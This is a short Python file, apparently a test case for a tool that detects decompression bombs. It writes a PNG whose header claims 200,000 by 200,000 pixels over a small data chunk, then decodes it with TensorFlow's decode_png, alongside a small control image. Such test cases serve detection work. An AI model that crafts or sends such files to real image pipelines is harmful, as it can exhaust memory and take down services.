"""A PNG whose header promises more pixels than TensorFlow counts to, in a pipeline."""
# expect: decompression-bomb PROVEN
# ending: 1
# needs: tensorflow
# names: map.png

import struct
import zlib
from pathlib import Path

import tensorflow as tf


def chunk(kind: bytes, data: bytes) -> bytes:
    checksum = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)


def write(side: int) -> None:
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * min(side, 100) * (side + 1))
    begin = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
    Path("map.png").write_bytes(begin + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


def brightness(path: tf.Tensor) -> tf.Tensor:
    pixels = tf.io.decode_png(tf.io.read_file(path), channels=1)  # <- here
    return tf.reduce_mean(tf.cast(pixels, tf.float32))


def run() -> None:
    for value in tf.data.Dataset.from_tensor_slices(["map.png"]).map(brightness):
        print(float(value))


def die() -> None:
    write(200_000)
    run()


def spare() -> None:
    write(60)
    run()
